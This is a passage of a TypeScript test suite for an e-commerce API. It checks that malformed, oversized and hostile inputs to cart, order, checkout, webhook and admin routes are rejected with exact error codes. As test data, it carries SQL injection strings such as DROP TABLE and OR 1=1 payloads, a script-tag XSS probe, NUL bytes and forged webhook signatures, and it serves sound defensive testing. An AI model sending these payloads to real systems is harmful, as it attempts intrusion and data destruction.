      get(`/api/v1/products/${sql}`, 404, 'NOT_FOUND'),
      get(`/api/v1/products/${encodeURIComponent('<script>alert(1)</script>')}`, 404, 'NOT_FOUND'),
      get('/api/v1/products/a%00b', 400, 'VALIDATION_FAILED'),
      get(`/api/v1/products/${'x'.repeat(101)}`, 400, 'VALIDATION_FAILED'),
      get('/api/v1/orders/not-a-uuid', 400, 'VALIDATION_FAILED', alice.token),
      get(`/api/v1/orders/${sql}`, 400, 'VALIDATION_FAILED', alice.token),
      get(`/api/v1/orders/${encodeURIComponent('1 OR 1=1')}`, 400, 'VALIDATION_FAILED', alice.token),
      get(`/api/v1/orders/${orderA}%00`, 400, 'VALIDATION_FAILED', alice.token),
      get(`/api/v1/orders/${randomUUID()}`, 404, 'ORDER_NOT_FOUND', alice.token),
      get(`/api/v1/orders/${randomUUID()}/events`, 404, 'ORDER_NOT_FOUND', alice.token),
      { name: 'events with a bad Last-Event-ID', method: 'GET', path: `/api/v1/orders/${orderB}/events`, token: bob.token, headers: { 'last-event-id': "1; DROP TABLE order_events" }, status: 400, code: 'VALIDATION_FAILED' },
      { name: 'events with a 20-digit Last-Event-ID', method: 'GET', path: `/api/v1/orders/${orderB}/events`, token: bob.token, headers: { 'last-event-id': '9'.repeat(20) }, status: 400, code: 'VALIDATION_FAILED' },
      { name: 'cancel a random id', method: 'POST', path: `/api/v1/orders/${randomUUID()}/cancel`, token: alice.token, body: {}, status: 404, code: 'ORDER_NOT_FOUND' },
      { name: 'cancel a non-uuid', method: 'POST', path: `/api/v1/orders/${sql}/cancel`, token: alice.token, body: {}, status: 400, code: 'VALIDATION_FAILED' },
      { name: 'return a random id', method: 'POST', path: `/api/v1/orders/${randomUUID()}/return`, token: alice.token, body: {}, status: 404, code: 'ORDER_NOT_FOUND' },
      { name: 'return a non-uuid', method: 'POST', path: '/api/v1/orders/1%20OR%201=1/return', token: alice.token, body: {}, status: 400, code: 'VALIDATION_FAILED' },
      { name: 'set a cart line of a NUL id', method: 'PUT', path: '/api/v1/cart/items/%00', token: carol.token, body: { quantity: 1 }, status: 400, code: 'VALIDATION_FAILED' },
      { name: 'set a cart line of an SQL id', method: 'PUT', path: `/api/v1/cart/items/${sql}`, token: carol.token, body: { quantity: 1 }, status: 422, code: 'PRODUCT_NOT_FOUND' },
      { name: 'remove a cart line of a script id', method: 'DELETE', path: `/api/v1/cart/items/${encodeURIComponent('<script>')}`, token: carol.token, status: 200 },
      { name: 'a URL longer than Node accepts (answered by its HTTP parser, not the app)', method: 'GET', path: `/api/v1/products/${'x'.repeat(20_000)}`, status: 431 },
      ...['limit=0', 'limit=101', 'limit=-1', 'limit=1.5', 'limit=abc', 'limit=1e308', 'limit=NaN', 'limit=', 'limit=1&limit=2', 'minPrice=-1', 'minPrice=1.5', 'maxPrice=1e10', 'minPrice=10&maxPrice=5', 'q=', 'q=%20%20', 'q=a%00', `q=${'x'.repeat(101)}`, 'category=%00', 'cursor=garbage', `cursor=${'x'.repeat(501)}`, `cursor=${cursor({ id: 'a\u0000' })}`, `cursor=${cursor({ id: { gt: '' } })}`, `cursor=${cursor(null)}`].map((q) =>
        get(`/api/v1/products?${q}`, 400, 'VALIDATION_FAILED'),
      ),
      ...['limit=0', `cursor=${cursor({ id: 'x' })}`, `cursor=${cursor({ c: '0000-01-01T00:00:00Z', i: randomUUID() })}`, `cursor=${cursor({ c: '2020-01-01T00:00:00+05:00', i: randomUUID() })}`, `cursor=${cursor({ c: "'; DROP TABLE orders; --", i: randomUUID() })}`].map((q) =>
        get(`/api/v1/orders?${q}`, 400, 'VALIDATION_FAILED', alice.token),
      ),
      ...['status=NOPE', `status=${sql}`, 'limit=1000'].map((q) => get(`/api/v1/admin/orders?${q}`, 400, 'VALIDATION_FAILED', adminToken)),
      get(`/api/v1/products?q=${sql}`, 200),
      get(`/api/v1/products?q=${encodeURIComponent('50%_\\')}&category=${encodeURIComponent('<script>')}`, 200),
    ]);
  });

  it('every field of every body, business rules included: the exact 4xx', async () => {
    const order = (body: unknown, token = bob.token): Req => ({ method: 'POST', path: '/api/v1/orders', token, body });
    // null: the header is not sent
    const checkout = (body: unknown, key: string | null = randomUUID(), token = carol.token): Req => ({ method: 'POST', path: '/api/v1/checkout', token, body, headers: key === null ? {} : { 'idempotency-key': key } });
    // null: not signed
    const webhook = (body: unknown, key: string | null = CARRIER_SECRET, extra: Partial<Req> = {}): Req => ({ method: 'POST', path: '/api/v1/webhooks/carrier', body, ...(key === null ? {} : { signWith: key }), ...extra });
    const unixNow = Math.floor(Date.now() / 1000);
    const cartAdd = (body: unknown, token = carol.token): Req => ({ method: 'POST', path: '/api/v1/cart/items', token, body });
    const admin = (method: string, path: string, body: unknown): Req => ({ method, path: `/api/v1/admin${path}`, token: adminToken, body });
    const V = 'VALIDATION_FAILED';
    await runTable([
      // accounts
      { name: 'register: not an email', method: 'POST', path: '/api/v1/users/register', body: { email: 'not-an-email', password: 'correct horse battery' }, status: 400, code: V },
      { name: 'register: SQL as the email', method: 'POST', path: '/api/v1/users/register', body: { email: "'; DROP TABLE users; --@x.io", password: 'correct horse battery' }, status: 400, code: V },
      { name: 'register: short password', method: 'POST', path: '/api/v1/users/register', body: { email: 'short@faults.test', password: 'short' }, status: 400, code: V },
      { name: 'register: email of 300 characters', method: 'POST', path: '/api/v1/users/register', body: { email: `${'a'.repeat(290)}@faults.test`, password: 'correct horse battery' }, status: 400, code: V },
      { name: 'register: password is a number', method: 'POST', path: '/api/v1/users/register', body: { email: 'num@faults.test', password: 12345678 }, status: 400, code: V },
      { name: "register: alice's email again", method: 'POST', path: '/api/v1/users/register', body: { email: aliceEmail.toUpperCase(), password: 'correct horse battery' }, status: 409, code: 'EMAIL_TAKEN' },
      { name: 'login: unknown email', method: 'POST', path: '/api/v1/users/login', body: { email: 'nobody@faults.test', password: 'correct horse battery' }, status: 401, code: 'UNAUTHENTICATED' },
      { name: 'login: wrong password', method: 'POST', path: '/api/v1/users/login', body: { email: aliceEmail, password: "' OR '1'='1" }, status: 401, code: 'UNAUTHENTICATED' },
      { name: 'login: no body fields', method: 'POST', path: '/api/v1/users/login', body: {}, status: 400, code: V },
      // cart quantities and products
      ...[0, -1, -0, 100, 1_000, 1e9, 2 ** 31].map((quantity) => ({ name: `cart: quantity ${quantity}`, ...cartAdd({ productId: product, quantity }), status: 422, code: 'QUANTITY_OUT_OF_RANGE' })),
      ...[2 ** 53, 1e308, -1e308, 1.5, 0.1, '2', 'NaN', null, true, [1], {}].map((quantity) => ({ name: `cart: quantity ${JSON.stringify(quantity)}`, ...cartAdd({ productId: product, quantity }), status: 400, code: V })),
      { name: 'cart: 98 more on top of 2', ...cartAdd({ productId: product, quantity: 98 }, alice.token), status: 422, code: 'QUANTITY_OUT_OF_RANGE' },
      { name: 'cart: set 0', method: 'PUT', path: `/api/v1/cart/items/${product}`, token: alice.token, body: { quantity: 0 }, status: 422, code: 'QUANTITY_OUT_OF_RANGE' },
      { name: 'cart: set "5"', method: 'PUT', path: `/api/v1/cart/items/${product}`, token: alice.token, body: { quantity: '5' }, status: 400, code: V },
      { name: 'cart: set nothing', method: 'PUT', path: `/api/v1/cart/items/${product}`, token: alice.token, body: {}, status: 400, code: V },
      { name: 'cart: unknown product', ...cartAdd({ productId: NO_PRODUCT, quantity: 1 }), status: 422, code: 'PRODUCT_NOT_FOUND' },
      { name: 'cart: inactive product', ...cartAdd({ productId: inactive, quantity: 1 }), status: 422, code: 'PRODUCT_INACTIVE' },
      { name: 'cart: product id with a NUL', ...cartAdd({ productId: `${product}\u0000`, quantity: 1 }), status: 400, code: V },
      { name: 'cart: product id with an unpaired surrogate', ...cartAdd({ productId: `${product}\uD800`, quantity: 1 }), status: 400, code: V },
      { name: 'cart: product id of spaces', ...cartAdd({ productId: '   ', quantity: 1 }), status: 400, code: V },
      { name: 'cart: product id a number', ...cartAdd({ productId: 42, quantity: 1 }), status: 400, code: V },
      // orders
      ...[0, -5, 100, 1e9, 2 ** 53, 1e308, 2.5, '1', null].map((q) => ({ name: `order: quantity ${JSON.stringify(q)}`, ...order(orderBody(product, q)), status: 400, code: V })),
      { name: 'order: no items', ...order({ ...orderBody(product), items: [] }), status: 400, code: V },
      { name: 'order: items is an object', ...order({ ...orderBody(product), items: { productId: product, quantity: 1 } }), status: 400, code: V },
      { name: 'order: unknown product', ...order(orderBody(NO_PRODUCT)), status: 422, code: 'PRODUCT_NOT_FOUND' },
      { name: 'order: inactive product', ...order(orderBody(inactive)), status: 422, code: 'PRODUCT_INACTIVE' },
      { name: 'order: a total no amount column holds (99 x 1,000,000.00)', ...order(orderBody(pricey, 99)), status: 400, code: V },
      { name: 'order: SQL as the order id', ...order(orderBody(product, 1, { orderId: "'; DROP TABLE orders; --" })), status: 400, code: V },
      { name: 'order: country USA', ...order(orderBody(product, 1, { shippingAddress: { ...address, country: 'USA' } })), status: 400, code: V },
      { name: 'order: country lower case', ...order(orderBody(product, 1, { shippingAddress: { ...address, country: 'us' } })), status: 400, code: V },
      { name: 'order: address missing', ...order({ items: [{ productId: product, quantity: 1 }], paymentMethod }), status: 400, code: V },
      { name: 'order: payment method a card number', ...order(orderBody(product, 1, { paymentMethod: '4242424242424242' })), status: 400, code: V },
      { name: 'order: name with an unpaired surrogate', ...order(orderBody(product, 1, { shippingAddress: { ...address, name: 'Lone \uD800 surrogate' } })), status: 400, code: V },
      { name: 'order: city with a NUL', ...order(orderBody(product, 1, { shippingAddress: { ...address, city: 'Spring\u0000field' } })), status: 400, code: V },
      { name: 'order: payment token with an unpaired surrogate', ...order(orderBody(product, 1, { paymentMethod: { token: 'tok_\uDFFF' } })), status: 400, code: V },
      // checkout
      { name: 'checkout: no Idempotency-Key', ...checkout(checkoutBody, null), status: 400, code: V },
      { name: 'checkout: Idempotency-Key of spaces', ...checkout(checkoutBody, '   '), status: 400, code: V },
      { name: 'checkout: Idempotency-Key of 256 characters', ...checkout(checkoutBody, 'k'.repeat(256)), status: 400, code: V },
      { name: 'checkout: empty cart', ...checkout(checkoutBody), status: 422, code: 'CART_EMPTY' },
      { name: 'checkout: empty cart, SQL as the key', ...checkout(checkoutBody, "'; DROP TABLE checkout_requests; --"), status: 422, code: 'CART_EMPTY' },
      { name: 'checkout: no payment method', ...checkout({ shippingAddress: address }), status: 400, code: V },
      { name: 'checkout: a full cart, an unpaired surrogate in the address', ...checkout({ ...checkoutBody, shippingAddress: { ...address, line1: '\uDC00 Main St' } }, randomUUID(), alice.token), status: 400, code: V },
      { name: 'checkout: a full cart, a NUL in the postal code', ...checkout({ ...checkoutBody, shippingAddress: { ...address, postalCode: '12\u000045' } }, randomUUID(), alice.token), status: 400, code: V },
      // cancel
      { name: 'cancel: reason a number', method: 'POST', path: `/api/v1/orders/${orderA}/cancel`, token: alice.token, body: { reason: 42 }, status: 400, code: V },
      { name: 'cancel: reason with a NUL', method: 'POST', path: `/api/v1/orders/${orderA}/cancel`, token: alice.token, body: { reason: 'a\u0000b' }, status: 400, code: V },
      { name: 'cancel: reason with an unpaired surrogate', method: 'POST', path: `/api/v1/orders/${orderA}/cancel`, token: alice.token, body: { reason: '\uD83D' }, status: 400, code: V },
      { name: 'cancel: body an array', method: 'POST', path: `/api/v1/orders/${orderA}/cancel`, token: alice.token, body: ['now'], status: 400, code: V },
      // carrier webhook
      { name: 'webhook: not signed', ...webhook({ trackingNumber: 'ZZ000000000000', event: 'delivered' }, null), status: 401, code: 'UNAUTHENTICATED' },
      { name: 'webhook: the key itself in the old X-Carrier-Secret header', ...webhook({ trackingNumber: 'ZZ000000000000', event: 'delivered' }, null, { headers: { 'x-carrier-secret': CARRIER_SECRET } }), status: 401, code: 'UNAUTHENTICATED' },
      { name: 'webhook: signed with a wrong key', ...webhook({ trackingNumber: 'ZZ000000000000', event: 'delivered' }, 'wrong'), status: 401, code: 'UNAUTHENTICATED' },
      { name: 'webhook: signed 10 minutes ago', ...webhook({ trackingNumber: 'ZZ000000000000', event: 'delivered' }, CARRIER_SECRET, { signAt: unixNow - 600 }), status: 401, code: 'UNAUTHENTICATED' },
      { name: 'webhook: signed 10 minutes ahead', ...webhook({ trackingNumber: 'ZZ000000000000', event: 'delivered' }, CARRIER_SECRET, { signAt: unixNow + 600 }), status: 401, code: 'UNAUTHENTICATED' },
      { name: 'webhook: a signature of another body', ...webhook({ trackingNumber: 'ZZ000000000000', event: 'delivered' }, null, { headers: carrierSignatureHeaders(CARRIER_SECRET, '{}') }), status: 401, code: 'UNAUTHENTICATED' },
      { name: 'webhook: a signature that is not hex', ...webhook({ trackingNumber: 'ZZ000000000000', event: 'delivered' }, null, { headers: { 'x-carrier-timestamp': String(unixNow), 'x-carrier-signature': `v1=${'z'.repeat(64)}` } }), status: 401, code: 'UNAUTHENTICATED' },
      { name: 'webhook: a timestamp that is not a number', ...webhook({ trackingNumber: 'ZZ000000000000', event: 'delivered' }, null, { headers: { 'x-carrier-timestamp': '1e9', 'x-carrier-signature': carrierSignatureHeaders(CARRIER_SECRET, '', 1e9)['x-carrier-signature'] } }), status: 401, code: 'UNAUTHENTICATED' },
      { name: 'webhook: a secret as long as the real one, with a non-ASCII character', ...webhook({ trackingNumber: 'ZZ000000000000', event: 'delivered' }, `${CARRIER_SECRET.slice(0, -1)}é`), status: 401, code: 'UNAUTHENTICATED' },
      { name: 'webhook: unknown tracking number', ...webhook({ trackingNumber: 'ZZ000000000000', event: 'delivered' }), status: 404, code: 'NOT_FOUND' },
      { name: 'webhook: SQL as the tracking number', ...webhook({ trackingNumber: "' OR 1=1 --", event: 'delivered' }), status: 404, code: 'NOT_FOUND' },
      { name: 'webhook: tracking number with a NUL', ...webhook({ trackingNumber: 'ZZ00\u00000000', event: 'delivered' }), status: 400, code: V },
      { name: 'webhook: tracking number too short', ...webhook({ trackingNumber: 'ZZ', event: 'delivered' }), status: 400, code: V },
      { name: 'webhook: tracking number a number', ...webhook({ trackingNumber: 12345678, event: 'delivered' }), status: 400, code: V },
      { name: 'webhook: event shipped', ...webhook({ trackingNumber: 'ZZ000000000000', event: 'shipped' }), status: 400, code: V },
      // admin
      { name: 'admin: empty product', ...admin('POST', '/products', {}), status: 400, code: V },
      { name: 'admin: SQL as the product id', ...admin('POST', '/products', newProduct({ id: "x'; DROP TABLE products; --" })), status: 400, code: V },
      { name: 'admin: negative price', ...admin('POST', '/products', newProduct({ price: { amount: -1, currency: 'USD' } })), status: 400, code: V },
      { name: 'admin: fractional price', ...admin('POST', '/products', newProduct({ price: { amount: 9.99, currency: 'USD' } })), status: 400, code: V },
      { name: 'admin: price above the limit', ...admin('POST', '/products', newProduct({ price: { amount: 2 ** 31, currency: 'USD' } })), status: 400, code: V },
      { name: 'admin: currency usd', ...admin('POST', '/products', newProduct({ price: { amount: 1, currency: 'usd' } })), status: 400, code: V },
      { name: 'admin: negative stock', ...admin('POST', '/products', newProduct({ stock: -1 })), status: 400, code: V },
      { name: 'admin: name with a NUL', ...admin('POST', '/products', newProduct({ name: 'a\u0000' })), status: 400, code: V },
      { name: 'admin: an id that exists', ...admin('POST', '/products', newProduct()), status: 409, code: 'PRODUCT_EXISTS' },
      { name: 'admin: patch nothing', ...admin('PATCH', `/products/${product}`, {}), status: 400, code: V },
      { name: 'admin: patch only unknown fields', ...admin('PATCH', `/products/${product}`, { stock: 5, id: 'other' }), status: 400, code: V },
      { name: 'admin: patch active "yes"', ...admin('PATCH', `/products/${product}`, { active: 'yes' }), status: 400, code: V },
      { name: 'admin: patch an unknown product', ...admin('PATCH', `/products/${NO_PRODUCT}`, { name: 'x' }), status: 404, code: 'NOT_FOUND' },
      { name: 'admin: inventory nothing', ...admin('PUT', `/inventory/${product}`, {}), status: 400, code: V },
      { name: 'admin: inventory both', ...admin('PUT', `/inventory/${product}`, { available: 5, add: 1 }), status: 400, code: V },
      { name: 'admin: inventory available -5', ...admin('PUT', `/inventory/${product}`, { available: -5 }), status: 422, code: 'STOCK_BELOW_ZERO' },
      { name: 'admin: inventory remove a million', ...admin('PUT', `/inventory/${product}`, { add: -1_000_000 }), status: 422, code: 'STOCK_BELOW_ZERO' },
      { name: 'admin: inventory add 1.5', ...admin('PUT', `/inventory/${product}`, { add: 1.5 }), status: 400, code: V },
      { name: 'admin: inventory available 10 million', ...admin('PUT', `/inventory/${product}`, { available: 10_000_000 }), status: 400, code: V },
      { name: 'admin: inventory of an unknown product', ...admin('PUT', `/inventory/${NO_PRODUCT}`, { add: 1 }), status: 404, code: 'NOT_FOUND' },
    ]);
  });

  it('a cart pushed toward 10,000 lines stops at 50: 422 CART_TOO_MANY_ITEMS, also under 200 concurrent attempts', async () => {
    const [erin] = (await f.customers(1)) as [Customer];
    const ids: string[] = [];
    for (let i = 0; i < 60; i++) ids.push(await f.product(10, 100));
    for (const productId of ids.slice(0, 50)) expect((await send({ method: 'POST', path: '/api/v1/cart/items', token: erin.token, body: { productId, quantity: 1 } })).status).toBe(200);
    const before = await quiesce();
    const extra = ids.slice(50);
    const replies = await Promise.all(
      Array.from({ length: 200 }, (_, i) =>
        i % 2
          ? send({ method: 'POST', path: '/api/v1/cart/items', token: erin.token, body: { productId: extra[i % extra.length], quantity: 1 } })
          : send({ method: 'PUT', path: `/api/v1/cart/items/${extra[i % extra.length]}`, token: erin.token, body: { quantity: 1 } }),
      ),
    );
    for (const r of replies) expectRejected(r, 422, 'CART_TOO_MANY_ITEMS', 'the 51st line');
    expect(await f.db.cartItem.count({ where: { customerId: erin.id } })).toBe(50);
    await expectUnchanged(before, 'the 51st line');
  });

  it('fuzz: any JSON value or any text as the body of every write route', async () => {
    const routes = (): { req: Omit<Req, 'body' | 'raw'>; required: boolean }[] => [
      { req: { method: 'POST', path: '/api/v1/users/register' }, required: true },
      { req: { method: 'POST', path: '/api/v1/users/login' }, required: true },
      { req: { method: 'POST', path: '/api/v1/cart/items', token: carol.token }, required: true },
      { req: { method: 'PUT', path: `/api/v1/cart/items/${NO_PRODUCT}`, token: alice.token }, required: true },
      { req: { method: 'POST', path: '/api/v1/checkout', token: carol.token, headers: { 'idempotency-key': randomUUID() } }, required: true },
      { req: { method: 'POST', path: '/api/v1/orders', token: bob.token }, required: true },
      { req: { method: 'POST', path: `/api/v1/orders/${orderA}/cancel`, token: bob.token }, required: false },
      { req: { method: 'POST', path: `/api/v1/orders/${orderA}/return`, token: bob.token }, required: false },
      { req: { method: 'POST', path: '/api/v1/webhooks/carrier', signWith: CARRIER_SECRET }, required: true },
      { req: { method: 'POST', path: '/api/v1/admin/products', token: adminToken }, required: true },
      { req: { method: 'PATCH', path: `/api/v1/admin/products/${NO_PRODUCT}`, token: adminToken }, required: true },
      { req: { method: 'PUT', path: `/api/v1/admin/inventory/${NO_PRODUCT}`, token: adminToken }, required: true },
      { req: { method: 'POST', path: '/api/v1/admin/webhooks', token: adminToken }, required: true },
      { req: { method: 'PATCH', path: `/api/v1/admin/webhooks/${NO_SUBSCRIPTION}`, token: adminToken }, required: true },
      { req: { method: 'POST', path: `/api/v1/admin/webhooks/${NO_SUBSCRIPTION}/replay`, token: adminToken }, required: true },
    ];
    const body = fc.oneof(
      fc.jsonValue({ maxDepth: 3 }).map((v) => ({ json: v })),
      fc.oneof(anyChars, fc.constantFrom(...NASTY), fc.json().map((j) => j.slice(0, -1))).map((text) => ({ text })),
    );
    await fuzz(
      fc.tuple(fc.nat(routes().length - 1), body),
      async ([i, b]) => {
        const { req, required } = routes()[i];
        const r = await send({ ...req, ...('json' in b ? { body: b.json } : { raw: b.text }), headers: { ...JSON_CT, ...req.headers } });
        expectRejected(r, undefined, undefined, `${req.method} ${req.path} with ${JSON.stringify(b).slice(0, 200)}`);
        if (required && 'text' in b) {
          let parses = true;
          try {
            JSON.parse(b.text.replace(/\p{Cs}/gu, '\uFFFD').replace(/^\uFEFF/, ''));
          } catch {
            parses = false;
          }
          if (!parses) expectRejected(r, 400, 'INVALID_JSON', `${req.method} ${req.path} with ${JSON.stringify(b.text).slice(0, 200)}`);
        }
      },
      250,
    );
  });

  it('fuzz: the right fields with values of the wrong type, or missing: 400 VALIDATION_FAILED', async () => {
    type Spec = { req: () => Req; template: () => Record<string, unknown>; fields: [string, fc.Arbitrary<unknown>][] };
    const str = fc.oneof(notAString, missing);
    const addressFields: [string, fc.Arbitrary<unknown>][] = [
      ['shippingAddress', fc.oneof(notAnObject, missing)],
      ...['name', 'line1', 'city', 'postalCode'].map((k): [string, fc.Arbitrary<unknown>] => [`shippingAddress.${k}`, str]),
      ['shippingAddress.line2', notAString],
      ['shippingAddress.country', fc.oneof(str, fc.constantFrom('USA', 'us', 'U', '', ' US', '12'))],
      ['paymentMethod', fc.oneof(notAnObject, missing)],
      ['paymentMethod.token', str],
    ];
    const specs = (): Spec[] => [
      { req: () => ({ method: 'POST', path: '/api/v1/users/register' }), template: () => ({ email: `fuzz-${randomUUID()}@faults.test`, password: 'correct horse battery' }), fields: [['email', str], ['password', str]] },
      { req: () => ({ method: 'POST', path: '/api/v1/users/login' }), template: () => ({ email: aliceEmail, password: 'correct horse battery' }), fields: [['email', str], ['password', str]] },
      { req: () => ({ method: 'POST', path: '/api/v1/cart/items', token: carol.token }), template: () => ({ productId: NO_PRODUCT, quantity: 1 }), fields: [['productId', str], ['quantity', fc.oneof(notAnInt, missing)]] },
      { req: () => ({ method: 'PUT', path: `/api/v1/cart/items/${product}`, token: alice.token }), template: () => ({ quantity: 3 }), fields: [['quantity', fc.oneof(notAnInt, missing)]] },
      { req: () => ({ method: 'POST', path: '/api/v1/checkout', token: carol.token, headers: { 'idempotency-key': randomUUID() } }), template: () => ({ shippingAddress: { ...address }, paymentMethod: { ...paymentMethod } }), fields: addressFields },
      {
        req: () => ({ method: 'POST', path: '/api/v1/orders', token: bob.token }),
        template: () => ({ items: [{ productId: product, quantity: 1 }], shippingAddress: { ...address }, paymentMethod: { ...paymentMethod } }),
        fields: [
          ['items', fc.oneof(notAnArray, missing)],
          ['items.0', notAnObject],
          ['items.0.productId', str],
          ['items.0.quantity', fc.oneof(notAnInt, missing)],
          ['orderId', fc.oneof(notAString, fc.string({ maxLength: 30 }), fc.constantFrom(...NASTY))],
          ...addressFields,
        ],
      },
      { req: () => ({ method: 'POST', path: `/api/v1/orders/${orderA}/cancel`, token: alice.token }), template: () => ({ reason: 'changed my mind' }), fields: [['reason', notAString]] },
      { req: () => ({ method: 'POST', path: `/api/v1/orders/${orderA}/return`, token: alice.token }), template: () => ({ reason: 'changed my mind' }), fields: [['reason', notAString]] },
      {
        req: () => ({ method: 'POST', path: '/api/v1/webhooks/carrier', signWith: CARRIER_SECRET }),
        template: () => ({ trackingNumber: 'ZZ000000000000', event: 'delivered' }),
        fields: [['trackingNumber', str], ['event', fc.oneof(str, fc.constantFrom('DELIVERED', 'shipped', ' delivered'))]],
      },
      {
        req: () => ({ method: 'POST', path: '/api/v1/admin/products', token: adminToken }),
        template: () => newProduct(),
        fields: [
          ['sku', str],
          ['name', str],
          ['category', str],
          ['price', fc.oneof(notAnObject, missing)],
          ['price.amount', fc.oneof(notAnInt, missing, fc.constantFrom(-1, 100_000_001))],
          ['price.currency', fc.oneof(str, fc.constantFrom('usd', 'US', 'USDX', '$'))],
          ['stock', fc.oneof(notAnInt, fc.constantFrom(-1, 1_000_001))],
          ['active', fc.oneof(fc.string(), fc.integer(), fc.constant(null))],
          ['weightGrams', fc.oneof(notAnInt, fc.constant(-1))],
          ['description', notAString],
          ['warehouse', notAString],
        ],
      },
      {
        req: () => ({ method: 'PATCH', path: `/api/v1/admin/products/${product}`, token: adminToken }),
        template: () => ({ name: 'Renamed', active: false, price: { amount: 1, currency: 'USD' } }),
        fields: [['name', notAString], ['active', fc.oneof(fc.string(), fc.integer(), fc.constant(null))], ['price', notAnObject], ['price.amount', notAnInt], ['price.currency', notAString]],
      },
      { req: () => ({ method: 'PUT', path: `/api/v1/admin/inventory/${product}`, token: adminToken }), template: () => ({ add: 5 }), fields: [['add', fc.oneof(notAnInt, fc.constantFrom(-1_000_001, 1_000_001))]] },
    ];
    const set = (o: Record<string, unknown>, path: string, value: unknown) => {
      const keys = path.split('.');
      let at: any = o;
      for (const k of keys.slice(0, -1)) {
        if (at[k] === null || typeof at[k] !== 'object') return; // its parent is broken already
        at = at[k];
      }
      if (value === undefined) delete at[keys.at(-1)!];
      else at[keys.at(-1)!] = value;
    };
    const n = specs().length;
    const case_ = fc.nat(n - 1).chain((i) => {
      const fields = specs()[i].fields;
      return fc.tuple(fc.constant(i), fc.uniqueArray(fc.nat(fields.length - 1), { minLength: 1, maxLength: 3 }).chain((picked) => fc.tuple(...picked.map((k) => fc.tuple(fc.constant(fields[k][0]), fields[k][1])))));
    });
    await fuzz(
      case_,
      async ([i, broken]) => {
        const spec = specs()[i];
        const body = spec.template();
        // a broken parent replaces its children, so children go first
        for (const [path, value] of [...broken].sort((a, b) => b[0].length - a[0].length)) set(body, path, value);
        const req = spec.req();
        const r = await send({ ...req, body });
        expectRejected(r, 400, 'VALIDATION_FAILED', `${req.method} ${req.path} with ${JSON.stringify(broken).slice(0, 300)}`);
        expect(r.body.details?.fields?.length, show(r)).toBeGreaterThan(0);
      },
      300,
    );
  });

  it('fuzz: quantities that are not 1–99 (negative, zero, huge, fractional, strings) for the cart and for orders', async () => {
    const quantity = fc.oneof(
      fc.integer(),
      fc.integer({ min: -200, max: 200 }),
      fc.double(),
      fc.constantFrom(0, -0, -1, 100, 1e9, 2 ** 31, 2 ** 53, 2 ** 53 + 2, 1e308, -1e308, Number.MIN_VALUE, 0.5, 98.5, 1 + Number.EPSILON * 4),
      fc.oneof(fc.integer({ min: 1, max: 99 }).map(String), fc.constantFrom('NaN', 'Infinity', '1e2', '', '0x10')),
    ).filter((q) => !(typeof q === 'number' && Number.isInteger(q) && q >= 1 && q <= 99));
    const target = fc.constantFrom('cart-add', 'cart-set', 'order');
    await fuzz(
      fc.tuple(target, quantity),
      async ([t, q]) => {
        // what the API receives: JSON has no NaN or Infinity (null) and no -0 (0)
        const sentQ = JSON.parse(JSON.stringify({ q })).q as unknown;
        const inRangeRule = typeof sentQ === 'number' && Number.isSafeInteger(sentQ);
        const r =
          t === 'cart-add'
            ? await send({ method: 'POST', path: '/api/v1/cart/items', token: alice.token, body: { productId: product, quantity: q } })
            : t === 'cart-set'
              ? await send({ method: 'PUT', path: `/api/v1/cart/items/${product}`, token: alice.token, body: { quantity: q } })
              : await send({ method: 'POST', path: '/api/v1/orders', token: bob.token, body: orderBody(product, q) });
        const what = `${t} quantity ${JSON.stringify(q)} (${String(q)})`;
        // the cart checks the range as a business rule (422), orders in the schema (400)
        if (t !== 'order' && inRangeRule) expectRejected(r, 422, 'QUANTITY_OUT_OF_RANGE', what);
        else expectRejected(r, 400, 'VALIDATION_FAILED', what);
      },
      150,
    );
  });

  it('fuzz: SQL, script, unicode, NUL, unpaired surrogates and very long strings in every string field', async () => {
    type Target = { field: string; min: number; max: number; req: (s: string) => Req; ok: [number, string] };
    const inOrder = (field: string, min: number, max: number, patch: (s: string) => Record<string, unknown>): Target => ({
      field,
      min,
      max,
      req: (s) => ({ method: 'POST', path: '/api/v1/orders', token: bob.token, body: { ...orderBody(NO_PRODUCT), ...patch(s) } }),
      ok: [422, 'PRODUCT_NOT_FOUND'],
    });
    const inCheckout = (field: string, min: number, max: number, patch: (s: string) => Record<string, unknown>): Target => ({
      field,
      min,
      max,
      req: (s) => ({ method: 'POST', path: '/api/v1/checkout', token: carol.token, headers: { 'idempotency-key': randomUUID() }, body: { ...checkoutBody, ...patch(s) } }),
      ok: [422, 'CART_EMPTY'],
    });
    const addressField = (k: string) => (s: string) => ({ shippingAddress: { ...address, [k]: s } });
    const targets: Target[] = [
      ...(
        [
          ['name', 1, 200],
          ['line1', 1, 200],
          ['line2', 0, 200],
          ['city', 1, 100],
          ['postalCode', 1, 20],
        ] as const
      ).flatMap(([k, min, max]) => [inOrder(`shippingAddress.${k}`, min, max, addressField(k)), inCheckout(`shippingAddress.${k}`, min, max, addressField(k))]),
      inOrder('paymentMethod.token', 1, 100, (s) => ({ paymentMethod: { token: s } })),
      inCheckout('paymentMethod.token', 1, 100, (s) => ({ paymentMethod: { token: s } })),
      inOrder('items.0.productId', 1, 100, (s) => ({ items: [{ productId: s, quantity: 1 }] })),
      { field: 'productId', min: 1, max: 100, req: (s) => ({ method: 'POST', path: '/api/v1/cart/items', token: carol.token, body: { productId: s, quantity: 1 } }), ok: [422, 'PRODUCT_NOT_FOUND'] },
      { field: 'reason', min: 0, max: 500, req: (s) => ({ method: 'POST', path: `/api/v1/orders/${orderA}/cancel`, token: bob.token, body: { reason: s } }), ok: [404, 'ORDER_NOT_FOUND'] },
      { field: 'reason', min: 0, max: 500, req: (s) => ({ method: 'POST', path: `/api/v1/orders/${orderA}/return`, token: bob.token, body: { reason: s } }), ok: [404, 'ORDER_NOT_FOUND'] },
      { field: 'trackingNumber', min: 4, max: 40, req: (s) => ({ method: 'POST', path: '/api/v1/webhooks/carrier', signWith: CARRIER_SECRET, body: { trackingNumber: s, event: 'delivered' } }), ok: [404, 'NOT_FOUND'] },
      ...(['name', 'description', 'category', 'warehouse'] as const).map(
        (k): Target => ({
          field: k,
          min: k === 'description' ? 0 : 1,
          max: { name: 200, description: 2_000, category: 50, warehouse: 50 }[k],
          req: (s) => ({ method: 'PATCH', path: `/api/v1/admin/products/${NO_PRODUCT}`, token: adminToken, body: { [k]: s } }),
          ok: [404, 'NOT_FOUND'],
        }),
      ),
      { field: 'sku', min: 1, max: 64, req: (s) => ({ method: 'POST', path: '/api/v1/admin/products', token: adminToken, body: newProduct({ sku: s }) }), ok: [409, 'PRODUCT_EXISTS'] },
    ];
    await fuzz(
      fc.tuple(fc.nat(targets.length - 1), nastyString),
      async ([i, s]) => {
